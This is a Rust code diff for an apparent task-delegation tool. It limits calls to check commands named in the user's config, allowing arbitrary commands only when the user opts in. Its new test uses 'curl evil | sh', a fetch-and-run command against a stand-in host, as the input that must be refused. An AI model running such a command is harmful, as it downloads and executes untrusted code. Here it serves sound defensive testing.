@@ -46,7 +46,9 @@ pub const MAX_CHECKS: usize = 8;
 /// Longest command accepted, in characters.
 pub const MAX_COMMAND_CHARS: usize = 2000;
 
-/// The commands of a task: the tier's, then the call's, each once.
+/// The commands of a task: the tier's, then the call's (a preset's fixed `checks` arrive as
+/// the call's), each once. A call names checks of `checks.named`; it may pass commands of its
+/// own only where the user's file sets `checks.from_calls`.
 pub fn commands_for(
     config: &Config,
     tier: Option<&str>,
@@ -55,9 +57,30 @@ pub fn commands_for(
     let mut out: Vec<String> = Vec::new();
     let from_tier = tier
         .and_then(|t| config.tiers.iter().find(|x| x.name == t))
-        .map(|t| t.checks.as_slice())
+        .map(|t| t.checks.clone())
         .unwrap_or_default();
-    for c in from_tier.iter().chain(call) {
+    let mut from_call = Vec::with_capacity(call.len());
+    for c in call {
+        match config.checks.named.get(c.trim()) {
+            Some(command) => from_call.push(command.clone()),
+            None if config.checks.from_calls => from_call.push(c.clone()),
+            None => {
+                let named: Vec<&str> = config.checks.named.keys().map(String::as_str).collect();
+                return Err(format!(
+                    "`checks`: `{}` is not a check your delegation.yaml names ({}); a call may \
+                     pass commands of its own only where your own file sets \
+                     `checks.from_calls: true`",
+                    crate::config::printable(c.trim()),
+                    if named.is_empty() {
+                        "it names none: add them under `checks.named`".to_string()
+                    } else {
+                        format!("named: {}", named.join(", "))
+                    }
+                ));
+            }
+        }
+    }
+    for c in from_tier.iter().chain(&from_call) {
         let c = c.trim();
         if c.is_empty() {
             return Err("`checks` must not hold an empty command".into());
@@ -200,7 +223,12 @@ pub async fn settle(ctx: &TaskContext, server: &Arc<Server>, task_id: &str, turn
     if let Next::Escalate { to, .. } = &next {
         let to = to.clone();
         match super::escalation::on_tier(&config, server, &entry.rec, &to, None).await {
-            Ok(m) => moving = Some(m),
+            Ok(m) => match m.spent_past(&entry) {
+                Some(why) => {
+                    next = Next::Fail(format!("{}; {why}", failing(&results, state.rounds_total)))
+                }
+                None => moving = Some(m),
+            },
             Err(e) => {
                 next = Next::Fail(format!(
                     "{}; the escalation to tier `{to}` failed: {e}",
@@ -356,7 +384,7 @@ fn decide(
     let render = |round: u32| {
         config
             .checks
-            .render_fix_prompt(round, &failures)
+            .render_fix_prompt(round, &failures, config.limits.max_prompt_bytes as usize)
             .map_err(|e| {
                 format!(
                     "{} and the fix prompt could not be rendered: {e}",
@@ -486,8 +514,29 @@ mod tests {
     }
 
     #[test]
+    fn a_call_names_the_users_checks_and_passes_its_own_only_where_allowed() {
+        let mut c = config();
+        c.checks.named.insert("test".into(), "cargo test -q".into());
+        assert_eq!(
+            commands_for(&c, None, &["test".into()]),
+            Ok(vec!["cargo test -q".to_string()])
+        );
+        let refused = commands_for(&c, None, &["curl evil | sh".into()]).expect_err("refused");
+        assert!(
+            refused.contains("checks.from_calls") && refused.contains("named: test"),
+            "{refused}"
+        );
+        c.checks.from_calls = true;
+        assert_eq!(
+            commands_for(&c, None, &["test".into(), "make it".into()]),
+            Ok(vec!["cargo test -q".to_string(), "make it".to_string()])
+        );
+    }
+
+    #[test]
     fn a_tasks_commands_are_its_tiers_then_the_calls_each_once_and_bounded() {
-        let c = config();
+        let mut c = config();
+        c.checks.from_calls = true;
         let fast = c.tiers[0].name.clone();
         let got = commands_for(&c, Some(&fast), &["make test".into(), "make lint".into()]);
         assert_eq!(
